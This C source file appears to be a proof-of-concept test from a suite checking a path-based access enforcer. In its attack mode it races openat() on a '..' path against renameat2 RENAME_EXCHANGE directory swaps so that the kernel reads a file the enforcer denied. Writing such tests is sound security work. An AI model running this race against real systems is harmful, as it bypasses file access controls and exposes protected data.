// SPDX-License-Identifier: GPL-2.0-only
/*
 * Claim: a name with `..` is judged along the way that the kernel will walk,
 * although the directory that it starts from is moved (catalogue B2).
 *
 *	opener in DIR/d/d/d	mover			enforcer
 *	openat("way/../../..") ---------------------->	walks upwards from there:
 *							permitted
 *				renameat2(DIR/d/d/d, DIR/top,
 *				  RENAME_EXCHANGE)
 *	kernel walks from top <-----------------------	lets the call through
 *
 * The opener never changes its directory; the directory changes its parents. The
 * name goes through a maze in it before it goes upwards (maze.h).
 * Winning prints DATA and the content of the denied file.
 */
#include "maze.h"
#include "mirror.h"
#include "race.h"

#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE 2
#endif

static struct mirror mirror;

static void move_run(struct flip *flip)
{
	for (unsigned int turn = 1; !atomic_load(&flip->stop); turn++) {
		syscall(SYS_renameat2, JUNK(AT_FDCWD), mirror.deep, JUNK(AT_FDCWD), mirror.top,
			JUNK(RENAME_EXCHANGE));
		atomic_store(&flip->turns, turn);
		flip_pause();
	}
}

static void race(struct run *run, const char *name)
{
	char long_way[PATH_MAX];

	if (chdir(mirror.deep))
		broken("chdir %s: %s", mirror.deep, strerror(errno));
	maze_make(".");
	maze_name(long_way, ".", name);
	race_against_child(run, shared_memory(sizeof(struct flip)), move_run, long_way);
}

int main(int argc, char **argv)
{
	struct run run = run_begin(argc, argv);

	switch (run.mode) {
	case MODE_BENIGN:
		mirror_make_twins(&mirror, &run);
		race(&run, TWIN);
		break;
	case MODE_DIRECT:
		run_plain_read(&run, run.denied);
		break;
	case MODE_ATTACK:
		run_learn_decoy(&run);
		mirror_make(&mirror, run.dir, run.denied, run.decoy);
		race(&run, mirror.name);
		break;
	}
	run_end(&run);
}
